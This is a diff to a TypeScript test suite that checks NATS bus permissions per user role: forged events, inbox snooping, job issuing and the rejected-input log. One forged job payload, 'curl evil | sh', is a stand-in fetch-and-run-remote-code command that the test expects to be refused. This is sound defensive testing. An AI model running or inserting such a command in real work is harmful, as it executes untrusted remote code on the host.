@@ -1,27 +1,29 @@
+import { connect, errors } from '@nats-io/transport-node';
 import { startNatsServer } from '@shiplog/test/nats/natsServer.ts';
 import type { NatsServer } from '@shiplog/test/nats/natsServer.ts';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
-import type { Bus } from '../bus.ts';
+import type { Bus, Consumption } from '../bus.ts';
 import type { BusLogger } from '../busLogger.ts';
 import { BusError } from '../errors.ts';
 import { BusErrorCode } from '../errors.ts';
-import { natsAccountsConfig, natsPermissions } from '../natsPermissions.ts';
-import type { BusRole } from '../natsPermissions.ts';
+import { inboxPrefix, natsProducer } from '../identity.ts';
+import { natsAccountsConfig } from '../natsAccountsConfig.ts';
+import { natsPermissions } from '../natsPermissions.ts';
 import type { TopologyOptions } from '../topology.ts';
 import { createNatsBus } from './natsBus.ts';
+import { natsTestUsers as users } from '../testing/natsTestUsers.ts';
 
 const topology: TopologyOptions = { namespace: 'perm' };
-const roles: BusRole[] = ['admin', 'ingest', 'emitter', 'worker'];
-const password = (role: BusRole): string => `${role}-secret`;
+const password = (user: string): string => `${user}-secret`;
 const text = (value: string): Uint8Array => new TextEncoder().encode(value);
 const read = (value: Uint8Array): string => new TextDecoder().decode(value);
+const denied = { code: BusErrorCode.PermissionDenied };
 
 let server: NatsServer;
 const buses: Bus[] = [];
 beforeAll(async () => {
-  const users = roles.map((role) => ({ user: role, password: password(role), role }));
   // A misconfigured worker: it may pull jobs but not acknowledge them.
-  const worker = natsPermissions('worker', topology);
+  const worker = natsPermissions({ user: 'deaf', role: 'worker' }, topology);
   const deaf = {
     user: 'deaf',
     password: 'deaf-secret',
@@ -30,10 +32,10 @@ beforeAll(async () => {
       publish: { allow: worker.publish.allow.filter((s) => !s.startsWith('$JS.ACK')) },
     },
   };
-  const config = natsAccountsConfig(users, { topology }).replace(
-    '    users: [\n',
-    `    users: [\n      ${JSON.stringify(deaf)}\n`,
-  );
+  const config = natsAccountsConfig(
+    users.map((entry) => ({ ...entry, password: password(entry.user) })),
+    { topology },
+  ).replace('    users: [\n', `    users: [\n      ${JSON.stringify(deaf)}\n`);
   server = await startNatsServer({ jetstream: true, config });
   const admin = await as('admin');
   await admin.ensureTopology();
@@ -45,81 +47,199 @@ afterAll(async () => {
   await server?.dispose();
 });
 
-async function as(role: BusRole): Promise<Bus> {
-  const bus = await createNatsBus({ servers: server.url, user: role, password: password(role), topology });
+async function as(user: string): Promise<Bus> {
+  const bus = await createNatsBus({ servers: server.url, user, password: password(user), topology });
   buses.push(bus);
   return bus;
 }
 
-const eventSubject = 'perm.events.dev.cdevents.build.finished.0.3.0';
+/** An ingest stand-in: answers each event with the producer its subject names, and its body. */
+async function answeringIngest(handled: string[]): Promise<Consumption> {
+  const ingest = await as('ingest');
+  await ingest.ensureTopology();
+  return await ingest.consume('events', 'ingest', async (message) => {
+    const said = `${natsProducer(ingest.topology, message.subject)}:${read(message.data)}`;
+    handled.push(said);
+    await ingest.answer(
+      { msgId: message.msgId ?? '', subject: message.subject, headers: message.headers },
+      text(said),
+    );
+  });
+}
+
+async function until(check: () => boolean): Promise<void> {
+  const deadline = Date.now() + 10_000;
+  while (!check() && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
+}
 
 describe('NATS permissions per role', () => {
   it('refuses a client without credentials or with a wrong password', async () => {
-    await expect(createNatsBus({ servers: server.url, topology })).rejects.toMatchObject({
-      code: BusErrorCode.PermissionDenied,
-    });
+    await expect(createNatsBus({ servers: server.url, topology })).rejects.toMatchObject(denied);
     await expect(
-      createNatsBus({ servers: server.url, user: 'emitter', password: 'guess', topology }),
-    ).rejects.toMatchObject({ code: BusErrorCode.PermissionDenied });
+      createNatsBus({ servers: server.url, user: 'ci', password: 'guess', topology }),
+    ).rejects.toMatchObject(denied);
   });
 
-  it('lets an emitter record an event and get the answer an ingest replica publishes', async () => {
-    const ingest = await as('ingest');
-    await ingest.ensureTopology();
-    const consumption = await ingest.consume('events', 'ingest', async (message) => {
-      await ingest.answer(
-        { msgId: message.msgId ?? '', headers: message.headers },
-        text(`recorded:${read(message.data)}`),
-      );
-    });
-    const emitter = await as('emitter');
-    const result = await emitter.requestAnswer(eventSubject, text('b1'), {
+  it('answers each emitter user on its own subjects, and a retry by another process of that user', async () => {
+    const handled: string[] = [];
+    const consumption = await answeringIngest(handled);
+    const [ci, cd] = [await as('ci'), await as('cd')];
+    expect(ci.eventPrefix).toBe('perm.events.ci');
+    const first = await ci.requestAnswer(`${ci.eventPrefix}.build.finished`, text('b1'), {
       msgId: 'perm-b1',
       timeoutMs: 10_000,
     });
-    expect(read(result.answer)).toBe('recorded:b1');
+    expect(read(first.answer)).toBe('nats:ci:b1');
+    const theirs = await cd.requestAnswer(`${cd.eventPrefix}.build.finished`, text('b2'), {
+      msgId: 'perm-b2',
+      timeoutMs: 10_000,
+    });
+    expect(read(theirs.answer)).toBe('nats:cd:b2');
+
+    // Another process of `ci` re-sends perm-b1: JetStream drops it, the stored answer is read back.
+    const again = await as('ci');
+    const retry = await again.requestAnswer(`${again.eventPrefix}.build.finished`, text('b1'), {
+      msgId: 'perm-b1',
+      timeoutMs: 10_000,
+    });
+    expect(retry.ack.duplicate).toBe(true);
+    expect(read(retry.answer)).toBe('nats:ci:b1');
     await consumption.stop();
+    expect(handled).toEqual(['nats:ci:b1', 'nats:cd:b2']);
+  });
+
+  it('refuses an emitter speaking as another user, and loses nothing of its own', async () => {
+    const handled: string[] = [];
+    const consumption = await answeringIngest(handled);
+    const ci = await as('ci');
+    await expect(
+      ci.publishEvent('perm.events.cd.artifact.signed', text('forged'), { msgId: 'forged-1' }),
+    ).rejects.toMatchObject(denied);
+    await expect(
+      ci.publishEvent('perm.events._.artifact.signed', text('forged'), { msgId: 'forged-2' }),
+    ).rejects.toMatchObject(denied);
+    // Waiting for an answer that could never come is refused before anything is sent.
+    await expect(
+      ci.requestAnswer('perm.events.cd.artifact.signed', text('forged'), {
+        msgId: 'forged-3',
+        timeoutMs: 60_000,
+      }),
+    ).rejects.toMatchObject({ code: BusErrorCode.InvalidArgument });
+    const admin = await as('admin');
+    await expect(
+      admin.publishEvent('perm.events.ci.artifact.signed', text('forged'), { msgId: 'forged-4' }),
+    ).rejects.toMatchObject(denied);
+
+    const own = await ci.requestAnswer(`${ci.eventPrefix}.service.deployed`, text('d1'), {
+      msgId: 'perm-d1',
+      timeoutMs: 10_000,
+    });
+    expect(read(own.answer)).toBe('nats:ci:d1');
+    await consumption.stop();
+    expect(handled).toEqual(['nats:ci:d1']);
+  });
+
+  it("refuses other users a read of an emitter's inbox, answers or stored answers; it gets its own", async () => {
+    const handled: string[] = [];
+    const consumption = await answeringIngest(handled);
+    const snoopers = await Promise.all(
+      ['cd', 'worker', 'release'].map((user) =>
+        connect({ servers: server.url, user, pass: password(user), inboxPrefix: inboxPrefix(user) }),
+      ),
+    );
+    try {
+      const seen: string[] = [];
+      const subscriptions = snoopers.flatMap((nc) =>
+        ['_INBOX.>', '_INBOX.ci.>', 'perm.answers.>', 'perm.answers.ci.>', '>'].map((subject) =>
+          nc.subscribe(subject, {
+            callback: (err, msg) => {
+              if (err === null) seen.push(msg.subject);
+            },
+          }),
+        ),
+      );
+      const ci = await as('ci');
+      const own = await ci.requestAnswer(`${ci.eventPrefix}.build.finished`, text('s1'), {
+        msgId: 'snooped-1',
+        timeoutMs: 10_000,
+      });
+      expect(read(own.answer)).toBe('nats:ci:s1');
+      for (const subscription of subscriptions) {
+        const open = new Promise((resolve) => setTimeout(() => resolve('still open'), 2_000));
+        expect(await Promise.race([subscription.closed, open])).toBeInstanceOf(
+          errors.PermissionViolationError,
+        );
+      }
+      const stored = `perm.answers.ci.${Buffer.from('snooped-1').toString('base64url')}.*`;
+      await expect(
+        snoopers[0]?.request(`$JS.API.DIRECT.GET.perm-answers.${stored}`, new Uint8Array(), {
+          timeout: 2_000,
+        }),
+      ).rejects.toMatchObject({ cause: expect.any(errors.PermissionViolationError) as unknown });
+      expect(seen).toEqual([]);
+    } finally {
+      await Promise.all(snoopers.map((nc) => nc.close()));
+      await consumption.stop();
+    }
+    expect(handled).toEqual(['nats:ci:s1']);
   });
 
   it('refuses events from a worker, and jobs and topology changes from an emitter', async () => {
     const worker = await as('worker');
     await expect(
-      worker.publishEvent(eventSubject, text('forged'), { msgId: 'forged' }),
-    ).rejects.toMatchObject({
-      code: BusErrorCode.PermissionDenied,
-    });
-    const emitter = await as('emitter');
-    await expect(emitter.enqueueJob('build', text('x'), { platform: 'linux-x64' })).rejects.toMatchObject({
-      code: BusErrorCode.PermissionDenied,
-    });
-    await expect(emitter.ensureTopology()).rejects.toMatchObject({ code: BusErrorCode.PermissionDenied });
-    await expect(emitter.reject(text('x'), 'spoofed')).rejects.toMatchObject({
-      code: BusErrorCode.PermissionDenied,
-    });
+      worker.publishEvent('perm.events.worker.build.finished', text('forged'), { msgId: 'forged' }),
+    ).rejects.toMatchObject(denied);
+    const emitter = await as('ci');
+    await expect(emitter.enqueueJob('build', text('x'), { platform: 'linux-x64' })).rejects.toMatchObject(
+      denied,
+    );
+    await expect(emitter.ensureTopology()).rejects.toMatchObject(denied);
+    await expect(emitter.reject(text('x'), 'spoofed')).rejects.toMatchObject(denied);
   });
 
-  it('lets a worker take the jobs of its platform; ingest keeps and reads the rejected log', async () => {
-    const ingest = await as('ingest');
-    await ingest.enqueueJob('build', text('job-1'), { platform: 'linux-x64', msgId: 'job-1' });
+  it('refuses a job from a worker; the release runner issues jobs a worker takes', async () => {
     const worker = await as('worker');
+    for (const queue of ['build', 'gate', 'sign', 'sbom']) {
+      await expect(
+        worker.enqueueJob(queue, text('{"cmd":"curl evil | sh"}'), {
+          platform: 'linux-x64',
+          msgId: `forged-${queue}`,
+        }),
+      ).rejects.toMatchObject(denied);
+    }
+    const release = await as('release');
+    await release.ensureTopology(); // the streams exist: it only looks
+    await release.enqueueJob('build', text('job-1'), { platform: 'linux-x64', msgId: 'job-1' });
+    await release.enqueueJob('gate', text('gate-1'), { msgId: 'gate-1' });
+    expect(await release.queueDepth('build')).toBe(1);
+    await expect(
+      release.consumeJobs('build', { platform: 'linux-x64' }, () => undefined),
+    ).rejects.toMatchObject(denied);
+
     const done: string[] = [];
     const consumption = await worker.consumeJobs('build', { platform: 'linux-x64' }, (job) => {
       done.push(read(job.data));
     });
-    const deadline = Date.now() + 10_000;
-    while (done.length === 0 && Date.now() < deadline)
-      await new Promise((resolve) => setTimeout(resolve, 20));
+    await until(() => done.length > 0);
     await consumption.stop();
     expect(done).toEqual(['job-1']);
+  });
 
+  it('lets ingest and workers keep rejected input, only ingest read it, and ingest issue a job', async () => {
+    const ingest = await as('ingest');
     await ingest.reject(text('{oops'), 'not JSON');
-    expect((await ingest.readRejected()).map((entry) => entry.reason)).toEqual(['not JSON']);
-    await expect(worker.readRejected()).rejects.toMatchObject({ code: BusErrorCode.PermissionDenied });
+    await (await as('worker')).reject(text('{"job":'), 'malformed job');
+    expect((await ingest.readRejected()).map((entry) => entry.reason)).toEqual(['not JSON', 'malformed job']);
+    await ingest.enqueueJob('publish', text('on behalf of the release runner'), { msgId: 'publish-1' });
+    expect(await ingest.queueDepth('publish')).toBe(1);
+    for (const user of ['worker', 'ci', 'release']) {
+      await expect((await as(user)).readRejected()).rejects.toMatchObject(denied);
+    }
   });
 
   it('logs a refused ack and leaves the job queued for redelivery', async () => {
-    const ingest = await as('ingest');
-    await ingest.enqueueJob('sign', text('sig-1'), { msgId: 'sig-1' });
+    const release = await as('release');
+    await release.enqueueJob('sign', text('sig-1'), { msgId: 'sig-1' });
     const warnings: { fields: Record<string, unknown>; message: string }[] = [];
     const logger: BusLogger = {
       warn: (fields, message) => warnings.push({ fields, message }),
@@ -134,13 +254,11 @@ describe('NATS permissions per role', () => {
     });
     buses.push(deaf);
     const consumption = await deaf.consumeJobs('sign', { ackWaitMs: 60_000 }, () => undefined);
-    const deadline = Date.now() + 10_000;
-    while (warnings.length === 0 && Date.now() < deadline)
-      await new Promise((resolve) => setTimeout(resolve, 20));
+    await until(() => warnings.length > 0);
     await consumption.stop();
     expect(warnings[0]?.message).toBe('bus ack failed');
     expect(warnings[0]?.fields['err']).toBeInstanceOf(BusError);
     expect((warnings[0]?.fields['err'] as BusError).code).toBe(BusErrorCode.PermissionDenied);
-    expect(await ingest.queueDepth('sign')).toBe(1);
+    expect(await release.queueDepth('sign')).toBe(1);
   });
 });
